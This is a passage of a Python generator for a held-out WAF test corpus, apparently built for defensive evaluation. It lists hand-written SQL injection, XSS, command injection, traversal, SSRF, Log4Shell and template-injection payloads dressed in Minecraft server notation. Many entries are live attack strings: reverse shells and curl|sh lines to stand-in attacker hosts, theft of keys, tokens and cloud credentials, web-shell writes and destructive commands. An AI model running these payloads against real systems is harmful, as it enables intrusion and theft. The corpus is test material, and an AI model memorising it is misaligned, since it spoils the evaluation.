"""Attack corpus generator for the "minecraft" held-out WAF corpus.

Attack payloads carried in the notations of a Minecraft server community site
and plugin panel (commands, selectors, SNBT, JSON text components, plugin YAML,
chat with colour codes, coordinates, datapack paths, appeals and tickets).
Each class names the context the vulnerable app puts the value into and the
technique: "<context>-<technique>[+<encoding>]". "plain-" classes carry the
bare technique without Minecraft dressing.

All payloads were written by hand for this corpus from an understanding of the
techniques (no public payload list, dataset or vendor example was used); a
small share comes from templates over hand-written pools. Standard library
only; deterministic output.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8702
PREFIX = "ha87"

# ---------------------------------------------------------------- sqli
SQLI = [
    ("name-union", "Steve_2011' UNION SELECT uuid,password,ip FROM authme-- -"),
    ("perm-boolean", "essentials.home.*' OR '1'='1"),
    ("coords-numeric-boolean", "64 OR 1=1"),
    ("seed-stacked-drop", "8091867987493326313; DROP TABLE luckperms_players;--"),
    ("chat-time-pg", "gg'; SELECT pg_sleep(7)--"),
    ("chat-time-mysql", "gg wp' AND SLEEP(6)-- -"),
    ("appeal-error-extractvalue", "I was banned for no reason' AND extractvalue(1,concat(0x7e,(SELECT password FROM authme LIMIT 1)))-- -"),
    ("command-union", "/home base' UNION SELECT world,x,y,z,NULL FROM homes WHERE player='Admin_Tom'-- -"),
    ("name-comment-truncate", "Admin_Tom'-- -"),
    ("coords-subquery", "-1240 AND (SELECT COUNT(*) FROM information_schema.tables)>0"),
    ("shop-price-union", "0 UNION ALL SELECT name,balance,NULL FROM economy ORDER BY balance DESC"),
    ("perm-updatexml", "group.vip' AND updatexml(null,concat(0x3a,user()),null) AND '1'='1"),
    ("ban-reason-insert-row", "griefing'), ('Admin_Tom','unbanned',NOW())-- -"),
    ("ban-search-like", "Grief%' OR 1=1 ORDER BY 1-- -"),
    ("uuid-blind-substring", "5a3e1f22-8c1d-4b6f-9a77-1d2e3f4a5b6c' AND SUBSTRING((SELECT password FROM authme WHERE username='admin_tom'),1,1)='$'-- -"),
    ("world-mssql-xpcmdshell", "world'; EXEC xp_cmdshell 'whoami'--"),
    ("world-mssql-oob-dirtree", r"world'; EXEC master..xp_dirtree '\\sqli.attacker.example\x'--"),
    ("nick-update-column", "&6Gold', rank='admin' WHERE username='Steve_2011'-- -"),
    ("balance-update-numeric", "100, balance=99999999 WHERE player='Kai'-- "),
    ("seed-sqlite-master", "0 UNION SELECT name, sql FROM sqlite_master--"),
    ("coords-sqlite-blind", "120 AND (SELECT substr(password,1,1) FROM players WHERE name='Admin_Tom')='a'"),
    ("chat-pg-cast-error", "hi' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
    ("ticket-orderby-probe", "Lag at spawn' ORDER BY 12-- -"),
    ("warp-load-file", "shop' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("warp-into-outfile", "shop' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/map/s.php'-- -"),
    ("selector-tag-boolean", "@a[tag=vip' OR '1'='1' -- ]"),
    ("item-id-union", "minecraft:diamond' UNION SELECT id,price,seller FROM shop_admin_items-- -"),
    ("name-mssql-waitfor", "Kai'; WAITFOR DELAY '0:0:8'--"),
    ("name-oracle-union", "Kai' UNION SELECT banner,NULL FROM v$version--"),
    ("name-oracle-oob", "Kai'||UTL_INADDR.get_host_address((SELECT user FROM dual)||'.sqli.attacker.example')||'"),
    ("chat-benchmark", "lol' AND BENCHMARK(30000000,MD5('x'))-- -"),
    ("appeal-if-sleep", "please unban' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>109,SLEEP(5),0)-- -"),
    ("perm-group-concat", "x' UNION SELECT GROUP_CONCAT(username,0x3a,password SEPARATOR 0x0a),2 FROM luckperms_players-- -"),
    ("leaderboard-limit-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)"),
    ("leaderboard-sort-case", "(CASE WHEN (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1 THEN kills ELSE deaths END)"),
    ("leaderboard-sort-sleep", "kills,(SELECT SLEEP(5))"),
    ("coords-union+comment-space", "64/**/UNION/**/SELECT/**/password,2,3/**/FROM/**/authme"),
    ("name-union+case-mix", "x' uNiOn SeLeCt NuLl,pAsSwOrD fRoM authme-- -"),
    ("name-boolean+url", "Steve%27%20OR%201%3D1--%20-"),
    ("name-union+url2", "Steve%2527%2520UNION%2520SELECT%2520password%2520FROM%2520authme--%2520-"),
    ("name-union+hex-literal", "x' UNION SELECT password,2 FROM authme WHERE username=0x41646d696e5f546f6d-- -"),
    ("ticket-pg-copy-program", "x'; COPY (SELECT 1) TO PROGRAM 'curl -s http://attacker.example/p.sh|sh';--"),
    ("yaml-prefix-stacked", "table-prefix: 'lp_x (a int); DROP TABLE luckperms_user_permissions; -- '"),
    ("jsontext-time", '{"text":"\' OR (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"}'),
    ("nbt-name-union", '{display:{Name:"Bob\' UNION SELECT token,NULL FROM web_sessions-- -"}}'),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-boolean", "' OR 'x'='x"),
    ("plain-time", "1) AND SLEEP(5)#"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-error-convert", "' AND 1=CONVERT(int,@@version)--"),
    ("ip-lookup-union", "192.0.2.44' UNION SELECT ip,name FROM player_ips-- -"),
    ("vote-site-dquote-boolean", 'TopServers" OR ""="'),
    ("town-name-paren-boolean", "Kai's Cove') OR ('1'='1"),
    ("report-json-blind", '{"reported":"Griefer123\' AND 1=(SELECT COUNT(*) FROM staff WHERE pass LIKE \'a%\')-- -"}'),
    ("mail-sqlite-heavy-query", "hi' AND 1=randomblob(900000000)-- "),
    ("claim-id-pg-case-sleep", "1;SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) END--"),
    ("kit-name-union+version-comment", "starter'/*!50000UNION*//*!50000SELECT*/password,2 FROM authme-- -"),
    ("auction-search-rlike", "sword' RLIKE (SELECT (CASE WHEN (1=1) THEN 0x73776f7264 ELSE 0x28 END))-- -"),
    ("perm-context-mssql-error", "world=lobby' AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')--"),
    ("bungee-server-union", "survival' UNION SELECT host,rcon_password FROM servers-- -"),
    ("discord-link-code-offset", "ABCD12' OR discord_id IS NOT NULL LIMIT 1 OFFSET 3-- -"),
    ("coords-having-error", "64 GROUP BY x HAVING 1=1--"),
    ("leaderboard-paren-union", "0) UNION SELECT name,password,0 FROM users-- "),
    ("panel-login-hash-comment", "admin'#"),
    ("panel-password-like", "' OR username LIKE 'Admin%' AND ''='"),
    ("chat-filter-sqlite-attach", "x'; ATTACH DATABASE '/var/www/map/shell.php' AS s; CREATE TABLE s.t(d text); INSERT INTO s.t VALUES('<?php system($_GET[0]);?>');--"),
    ("appeal-id-mssql-openrowset", "48213; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.40;uid=sa;pwd=x','SELECT 1')--"),
    ("name-boolean+html-entity", "Steve&#39; OR &#39;1&#39;=&#39;1"),
    ("name-union+tab-space", "x'\tUNION\tSELECT\tpassword,2\tFROM\tauthme--\t-"),
    ("coords-float-adjacent-union", "0.1UNION SELECT password,2,3 FROM authme"),
    ("warp-pg-string-agg", "shop'||(SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow)||'"),
    ("ticket-sqlite-load-extension", r"x' UNION SELECT load_extension('\\203.0.113.8\share\evil.dll'),2-- "),
    ("sign-lines-multiline-union", "[Shop]\nKai'\nUNION SELECT password,2 FROM authme\n-- -"),
    ("plain-order-by-probe", "1 ORDER BY 10--"),
]

# ---------------------------------------------------------------- xss
XSS = [
    ("chat-script-cookie", '&aHello <script>fetch("//attacker.example/c?"+document.cookie)</script>'),
    ("nick-img-onerror", "&6<img src=x onerror=alert(document.domain)>"),
    ("jsontext-openurl-javascript", '{"text":"Free VIP","clickEvent":{"action":"open_url","value":"javascript:fetch(\'//attacker.example/?\'+document.cookie)"}}'),
    ("minimessage-click-javascript", "<click:open_url:'javascript:alert(document.cookie)'>claim free rank</click>"),
    ("nbt-name-svg", "{display:{Name:'{\"text\":\"<svg/onload=alert(1)>\"}'}}"),
    ("sign-line-details", "<details open ontoggle=alert(1)>"),
    ("ban-reason-cell-break", "griefing</td><script src=//attacker.example/x.js></script>"),
    ("appeal-style-import", "<style>@import'//attacker.example/a.css';</style>I'm sorry"),
    ("motd-attribute-break", '&aSurvivalCraft" onmouseover="alert(1)" x="'),
    ("yaml-message-img", "join-message: '&e<img src=1 onerror=import(\"//attacker.example/m.js\")> joined'"),
    ("hover-text-anchor", '{"text":"hover","hoverEvent":{"action":"show_text","contents":"<a href=javascript:alert(1)>tip</a>"}}'),
    ("chat-body-onload", "<body onload=alert(document.domain)>"),
    ("marker-js-string-break", "1200';alert(document.cookie);//"),
    ("marker-script-close", "</script><script>alert(1)</script>"),
    ("town-name-autofocus", "Kai<input autofocus onfocus=alert(1)>"),
    ("ticket-markdown-link", "[click for logs](javascript:alert(document.cookie))"),
    ("ticket-markdown-img-attr", '![crash](x" onerror="alert(1))'),
    ("skin-url-data-html+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("chat-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("chat-href+html-entity", '<a href="jav&#x61;script:alert(1)">map</a>'),
    ("chat-color-code-split", "&c<scr&aipt>alert(1)</scr&aipt>"),
    ("nick-section-sign-split", "<§aimg src=x on§berror=alert(document.domain)>"),
    ("motd-jsontext-extra", '{"text":"","extra":[{"text":"<img src=x onerror=alert(1)>","color":"gold"}]}'),
    ("nbt-skullowner-script", '{SkullOwner:{Name:"<script>alert(1)</script>"}}'),
    ("hex-color-style-break", '&#ff0000"><svg onload=alert(1)>'),
    ("minimessage-hover-img", "<hover:show_text:'<img src=x onerror=alert(1)>'>hover me</hover>"),
    ("chat-href+case-mix", '<a href="JaVaScRiPt:alert(1)">shop</a>'),
    ("chat-script+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("appeal-svg+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("jsontext-img+unicode-escape", '{"text":"\\u003cimg src=x onerror=alert(1)\\u003e"}'),
    ("sign-textarea-close", "</textarea><script>alert(1)</script>"),
    ("ticket-title-close", "</title><svg/onload=alert(document.domain)>"),
    ("chat-video-source", '<video><source onerror="alert(1)"></video>'),
    ("chat-object-data", '<object data="javascript:alert(1)"></object>'),
    ("chat-form-action", "<form action=javascript:alert(1)><button>Claim reward</button></form>"),
    ("chat-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login">'),
    ("chat-base-href", '<base href="https://attacker.example/">'),
    ("chat-math-xlink", "<math><mtext><a xlink:href=javascript:alert(1)>x</a></mtext></math>"),
    ("nick-bold-mouseover", "<b onmouseover=alert(1)>Steve</b>"),
    ("marker-json-break", '"};alert(1);var x={"a":"'),
    ("webchat-name-localstorage", "Steve<img src onerror=this.src='//attacker.example/?'+localStorage.token>"),
    ("chat-svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("command-title-component", '/title @a title {"text":"<img src=x onerror=alert(document.cookie)>"}'),
    ("command-tellraw-anchor", '/tellraw @a [{"text":"Vote: "},{"text":"<a href=javascript:alert(1)>here</a>"}]'),
    ("command-bossbar-name", '/bossbar add ev:x "<svg onload=alert(1)>"'),
    ("command-scoreboard-display", '/scoreboard objectives add k dummy "<img src=x onerror=alert(1)>"'),
    ("perm-prefix-script", "prefix.100.&6<script>alert(1)</script>"),
    ("console-logviewer-img", "[12:00:00] [Server thread/INFO]: <Kai> <img src=x onerror=alert(1)>"),
    ("yaml-motd-iframe", 'motd: "&a<iframe src=javascript:alert(1)>"'),
    ("datapack-filename-svg", "<svg onload=alert(1)>.zip"),
    ("resource-location-script", 'mypack:"><script>alert(1)</script>'),
    ("seed-field-autofocus", '123" autofocus onfocus="alert(1)'),
    ("appeal-client-template", "{{constructor.constructor('alert(1)')()}}"),
    ("ticket-noscript-break", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("chat-newline-attr", "<img src=x\nonerror=alert(1)>"),
    ("chat-href+tab", '<a href="java\tscript:alert(1)">warp</a>'),
    ("chat-img-srcset", "<img srcset=x onerror=alert(1)>"),
    ("chat-animationstart", '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=alert(1)>'),
    ("chat-script-src", "<script src=//attacker.example/a></script>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=confirm(1)>"),
    ("plain-javascript-url", "javascript:alert(document.domain)"),
    ("plain-attr-break", '"><script>alert(1)</script>'),
    ("plain-svg-script", "<svg><script>alert(1)</script></svg>"),
    ("chat-handler+unicode-escape", r"<img src=x onerror=\u0061lert(1)>"),
    ("chat-handler+html-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("ticket-svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>logs</text></a></svg>'),
    ("chat-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("skin-filename-break", 'skin"><img src=x onerror=alert(1)>.png'),
    ("chat-marquee-onstart", "<marquee onstart=alert(1)>SALE</marquee>"),
    ("appeal-multiline-script", "Hi staff,\nI'm sorry.\n<script>\nnew Image().src='//attacker.example/s?c='+document.cookie\n</script>\nThanks"),
    ("chat-dom-clobber", "<form id=config><input name=apiBase value=//attacker.example>"),
    ("hover-show-item-name", '{"text":"[Sword]","hoverEvent":{"action":"show_item","contents":{"id":"minecraft:stone","tag":"{display:{Name:\'\\"<img src=x onerror=alert(1)>\\"\'}}"}}}'),
    ("book-page-iframe-srcdoc", "{pages:['{\"text\":\"<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt;>\"}']}"),
]

# ---------------------------------------------------------------- cmdi
CMDI = [
    ("world-name-semicolon", "skyblock; curl -s http://attacker.example/x.sh | sh"),
    ("say-subshell", "/say $(id)"),
    ("broadcast-backtick", "/broadcast `wget -qO- http://203.0.113.9/m|sh`"),
    ("backup-name-pipe", "backup_2024-05-11 | nc 203.0.113.5 4444 -e /bin/sh"),
    ("seed-and", "12345 && cat /etc/passwd"),
    ("screen-stuff-newline", "/say hi\nrm -rf /opt/minecraft/world"),
    ("jvm-args-onoom", '-Xmx4G -XX:OnOutOfMemoryError="curl attacker.example/p|sh"'),
    ("world-ifs", "world;cat${IFS}/etc/shadow"),
    ("world-windows-powershell", 'world & powershell -nop -c "iwr http://attacker.example/r.ps1|iex"'),
    ("backup-windows-type", r"world | type C:\Windows\win.ini"),
    ("ping-host-semicolon", "play.survivalcraft.net; id"),
    ("server-address-or-revshell", "mc.example.net || bash -i >& /dev/tcp/203.0.113.12/9001 0>&1"),
    ("plugin-url-subshell", "https://cdn.example.org/plugin.jar$(curl attacker.example/$(whoami))"),
    ("version-field-backtick", "1.20.4`sleep 10`"),
    ("ram-field-python", "4G; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("gamerule-semicolon", "/gamerule keepInventory true; chmod +s /bin/bash"),
    ("tellraw-quote-break", "/tellraw @a {\"text\":\"hi\"}'; touch /tmp/pwned; echo '"),
    ("console-dquote-break", 'stop" ; curl attacker.example/k | bash ; "'),
    ("schematic-find-exec", "castle.schem -exec sh -c 'id > /tmp/o' ;"),
    ("backup-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("backup-rsync-e", "-e sh -c 'curl attacker.example|sh' backup/"),
    ("datapack-git-ext", "ext::sh -c touch% /tmp/pwned"),
    ("backup-zip-TT", "world.zip -T -TT 'sh -c id'"),
    ("pack-url-curl-output", "https://attacker.example/s.sh -o /opt/minecraft/start.sh"),
    ("plugin-url-wget-post-file", "--post-file=/opt/minecraft/server.properties http://attacker.example/"),
    ("world-subshell+base64", "world$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3h8c2g= | base64 -d | sh)"),
    ("nick-backtick", "&6Steve`uname -a`"),
    ("coords-semicolon", "100 64 -50; ls -la /root"),
    ("seed-multiline", "123456789\ncurl http://198.51.100.23/b -o /tmp/b\nchmod +x /tmp/b\n/tmp/b"),
    ("motd-quote-subshell", "&aWelcome'\"$(touch /tmp/motd)\"'"),
    ("backup-semicolon+glob", "world; /???/??t /???/p??s??"),
    ("world-brace-expansion", "world;{cat,/etc/passwd}"),
    ("world-printf+hex", r"world;$(printf '\x69\x64')"),
    ("world-whoami+quote-split", "world;w'h'o'a'm'i"),
    ("world-cat+backslash-split", r"world;c\at /e\tc/pas\swd"),
    ("world-var-concat", "world;a=ca;b=t;$a$b /etc/hosts"),
    ("world-windows+caret", "world & w^h^o^a^m^i"),
    ("world-windows-delayed-expansion", 'world & cmd /v:on /c "set x=whoami&& !x!"'),
    ("world-powershell-enc+base64", "world | powershell -enc dwBoAG8AYQBtAGkA"),
    ("java-path-exfil", "/usr/bin/java -version; cat ~/.ssh/id_rsa | curl -d @- attacker.example"),
    ("startup-flags-amp", "--nogui & echo pwned > /var/www/html/index.html"),
    ("plugin-name-subshell-sleep", "EssentialsX-$(sleep 15).jar"),
    ("skin-name-dns-oob", "steve.png;nslookup $(whoami).cmdi.attacker.example"),
    ("player-name-dig-oob", "Kai`dig +short $(hostname).attacker.example`"),
    ("webhook-url-and-exfil", "https://discord.com/api/webhooks/1/x && curl -F f=@/opt/minecraft/ops.json attacker.example"),
    ("world-semicolon+url", "world%3Bid"),
    ("world-newline+url", "world%0Acat%20/etc/passwd"),
    ("world-pipe+url2", "world%253B%2520curl%2520attacker.example%252Fx%257Csh"),
    ("logfile-perl-open-pipe", "|/usr/bin/id"),
    ("logfile-ruby-open-pipe", "|curl http://attacker.example/r | sh"),
    ("sign-line-subshell", "[Buy]\n$(nc -e /bin/sh 198.51.100.4 1337)"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and-ping", "&& ping -c 10 127.0.0.1"),
    ("world-sleep-blind", "world;sleep 12"),
    ("world-windows-ping-blind", "world | ping -n 11 127.0.0.1"),
    ("command-execute-ncat", "/execute run say x; ncat 203.0.113.99 4444 -e /bin/bash"),
    ("restart-cron-line", "*/5 * * * * curl attacker.example/c|sh"),
    ("world-ssh-key-append", "world; echo 'ssh-ed25519 AAAAPLACEHOLDERKEY attacker' >> ~/.ssh/authorized_keys"),
    ("world-process-substitution", "world; bash <(curl -s attacker.example/i)"),
    ("env-field-ld-preload", "LD_PRELOAD=/tmp/evil.so"),
    ("pid-field-kill-all", "1234; kill -9 -1"),
    ("yaml-restart-script", "restart-script: ./start.sh; curl attacker.example/x | sh"),
    ("yaml-backup-command-exfil", 'backup:\n  command: "tar czf /srv/backups/w.tgz world && curl -T /srv/backups/w.tgz ftp://203.0.113.20/"'),
    ("world-python-os-system", "world\" ; python3 -c \"import os;os.system('id')\" ; \""),
    ("world-redirect-overwrite", "world > /opt/minecraft/server.properties"),
    ("world-var-slice", "world;cat ${HOME:0:1}etc${HOME:0:1}shadow"),
    ("ticket-attachment-name", "crash-report.txt;curl -s attacker.example/a|bash;.txt"),
    ("world-semicolon+tab", "world;cat\t/etc/passwd"),
    ("command-and-rm", "/save-all && rm -rf ~/backups"),
]

# ---------------------------------------------------------------- traversal
TRAVERSAL = [
    ("schem-load-dotdot", "//schem load ../../server.properties"),
    ("logviewer-dotdot", "logs/../../../../root/.ssh/id_rsa"),
    ("datapack-zip-slip", "data/mypack/../../../../plugins/Essentials.jar"),
    ("resource-location-dotdot", "mypack:../../../../../../etc/shadow"),
    ("logfile-dotdot+null-byte", "../../../../etc/passwd%00latest.log"),
    ("skin-path-dotdot+url", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("skin-path-dotdot+url2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("schem-name+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("schem-name-nested-strip", "....//....//....//etc/passwd"),
    ("texture-windows-backslash", r"..\..\..\..\Windows\win.ini"),
    ("logviewer-absolute-proc", "/proc/self/environ"),
    ("logviewer-absolute-etc", "/etc/passwd"),
    ("world-download-dotdot", "world/../../../home/mc/.bash_history"),
    ("crash-report-dotdot", "crash-reports/../../../../../var/log/auth.log"),
    ("function-path-dotdot", "data/mypack/functions/../../../../../../opt/minecraft/ops.json"),
    ("lang-file-dotdot", "assets/minecraft/lang/../../../../../../etc/hosts"),
    ("plugin-config-dotdot", "plugins/AuthMe/../../../../srv/panel/.env"),
    ("texture-windows-ssh-key", r"textures\..\..\..\..\..\Users\Administrator\.ssh\id_rsa"),
    ("schem-name+iis-unicode", "..%u2216..%u2216etc%u2216passwd"),
    ("schem-dots+url", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("schem-dots+url2", "%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("playerdata-dotdot+null-byte", "../../../../etc/passwd\x00.dat"),
    ("logviewer-proc-fd", "/proc/self/fd/3"),
    ("logviewer-proc-cmdline", "../../../../proc/self/cmdline"),
    ("texture-windows-drive", r"C:\Windows\System32\drivers\etc\hosts"),
    ("texture-backslash+url", "..%5c..%5c..%5cboot.ini"),
    ("datapack-tag-json-dotdot", '{"values":["mypack:../../../../../etc/passwd"]}'),
    ("pack-mcmeta-dotdot", "pack.mcmeta/../../../../../../etc/shadow"),
    ("zip-entry-windows-slip", r"..\..\..\plugins\Backdoor.jar"),
    ("logviewer-absolute-home", "/home/mc/.ssh/authorized_keys"),
    ("panel-tomcat-path-param", "..;/..;/..;/WEB-INF/web.xml"),
    ("webmap-tiles-dotdot", "tiles/world/../../../../../../etc/passwd"),
    ("schem-mixed-slashes", r"..\/..\/..\/etc/passwd"),
    ("schem-dots+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("panel-file-env", "../../.env"),
    ("panel-file-git-config", "../.git/config"),
    ("logviewer-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("logviewer-proc-1-environ", "/proc/1/environ"),
    ("yaml-storage-file-dotdot", "file: ../../../../../etc/passwd"),
    ("command-schem-save-write", "//schem save ../../../plugins/Skript/scripts/evil.sk"),
    ("command-skript-reload", "/sk reload ../../../../etc/passwd"),
    ("resourcepack-launcher-profiles", "resourcepacks/../../../../../../root/.minecraft/launcher_profiles.json"),
    ("world-select-other-server", "../../other_server/world/level.dat"),
    ("plain-dotdot", "../../../../../../etc/passwd"),
    ("plain-windows-sam", r"..\..\..\..\..\windows\system32\config\sam"),
    ("plain-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("book-title-dotdot", "Rules/../../../../../opt/minecraft/whitelist.json"),
    ("datapack-zip-inner-slip", "arena_v2.zip!/../../../../start.sh"),
    ("texture-windows+case-mix", r"..\..\..\WiNdOwS\wIn.InI"),
    ("plugin-dir-absolute-dotdot", "/opt/minecraft/plugins/../../../etc/shadow"),
    ("plain-dotdot-win-ini", "../../../../../../windows/win.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-dotdot+url2", "..%252f..%252f..%252f..%252fetc%252fgroup"),
]

# ---------------------------------------------------------------- ssrf
SSRF = [
    ("resourcepack-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("imagemap-url-rcon", "/maps url http://127.0.0.1:25575/"),
    ("skin-url+decimal-ip", "http://2130706433/admin"),
    ("skin-url+hex-ip", "http://0x7f.0x0.0x0.0x1:8123/up/configuration"),
    ("skin-url+ipv6-mapped", "http://[::ffff:127.0.0.1]:8080/"),
    ("skin-url+octal-ip", "http://017700000001:8080/console"),
    ("plugin-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("resourcepack-url-gcp-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("resourcepack-url-file", "file:///etc/passwd"),
    ("imagemap-url-dict", "dict://127.0.0.1:11211/stats"),
    ("skin-url-webmap-internal", "http://localhost:8123/standalone/config.js"),
    ("skin-url-dns-internal", "http://127.0.0.1.attacker.example:8080/"),
    ("resourcepack-url-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/user-data"),
    ("skin-url-userinfo-confusion", "http://attacker.example@127.0.0.1:25575/"),
    ("skin-url-backslash-confusion", r"http://127.0.0.1\@skins.example.org/steve.png"),
    ("resourcepack-url-fragment-confusion", "http://127.0.0.1:9000#@cdn.example.org/pack.zip"),
    ("webhook-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("webhook-url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("plugin-url-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("plugin-url-kube-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-url-panel-daemon", "http://172.18.0.1:8080/api/servers"),
    ("imagemap-url-ipv6-loopback", "http://[::1]:25575/"),
    ("imagemap-url-zero-ip", "http://0.0.0.0:8123/"),
    ("imagemap-url+short-ip", "http://127.1/server-status"),
    ("imagemap-url+octal-ip", "http://0177.0.0.1/"),
    ("resourcepack-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("resourcepack-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("resourcepack-url-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("skin-url-host+url", "http://%31%32%37%2e%30%2e%30%2e%31:8123/"),
    ("votifier-host-port-scan", "10.0.0.5:22"),
    ("bungee-backend-redis", "localhost:6379"),
    ("server-ping-internal-db", "10.0.0.12:3306"),
    ("jsontext-openurl-preview", '{"text":"map","clickEvent":{"action":"open_url","value":"http://169.254.169.254/latest/meta-data/"}}'),
    ("webhook-url-prometheus-admin", "http://127.0.0.1:9090/api/v1/admin/tsdb/delete_series"),
    ("webhook-url-consul", "http://10.0.0.3:8500/v1/agent/self"),
    ("backup-target-sftp-leak", "sftp://attacker.example:2222/"),
    ("backup-target-tftp", "tftp://attacker.example:69/world.zip"),
    ("plugin-url-jar-scheme", "jar:http://attacker.example/evil.jar!/plugin.yml"),
    ("resourcepack-url-netdoc", "netdoc:///etc/passwd"),
    ("backup-target-ftp-internal", "ftp://10.0.0.8/backups/"),
    ("skin-render-nested-url", "https://skins.example.org/render?url=http://127.0.0.1:8123/"),
    ("resourcepack-url-unc", r"\\203.0.113.50\share\pack.zip"),
    ("server-properties-pack", "resource-pack=http://169.254.169.254/latest/meta-data/"),
    ("yaml-update-url-ngrok", 'update-url: "http://localhost:4040/api/tunnels"'),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("nbt-skull-texture-url+base64", '{SkullOwner:{Properties:{textures:[{Value:"eyJ0ZXh0dXJlcyI6eyJTS0lOIjp7InVybCI6Imh0dHA6Ly8xMjcuMC4wLjE6ODEyMy8ifX19"}]}}}'),
    ("skin-url-host+url2", "http://127%252e0%252e0%252e1:25575/"),
    ("skin-url+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8123/"),
    ("plain-loopback-port", "http://127.0.0.1:22/"),
    ("plain-metadata+decimal-ip", "http://2852039166/"),
]

# ---------------------------------------------------------------- code
CODE = [
    ("chat-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("chat-log4shell+nested-lower", "${${lower:j}ndi:${lower:l}dap://203.0.113.14/o}"),
    ("sign-log4shell-env-exfil", "${jndi:dns://${env:RCON_PASSWORD}.attacker.example}"),
    ("nick-log4shell-rmi", "&a${jndi:rmi://198.51.100.9:1099/x}"),
    ("book-log4shell+default-split", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/b}"),
    ("anvil-name-log4shell-ldaps", "${jndi:ldaps://attacker.example/c}"),
    ("chat-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/v}"),
    ("chat-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("ticket-jinja-config", "{{ config.items() }}"),
    ("ticket-jinja-cycler-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("appeal-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("motd-jinja-lipsum", "&a{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("nick-jinja-request-import", "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}"),
    ("ticket-jinja-attr+hex-escape", r"{{ ()|attr('\x5f\x5fclass\x5f\x5f') }}"),
    ("ticket-jinja-loop-popen", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ticket-mako-module", "${self.module.cache.util.os.system('id')}"),
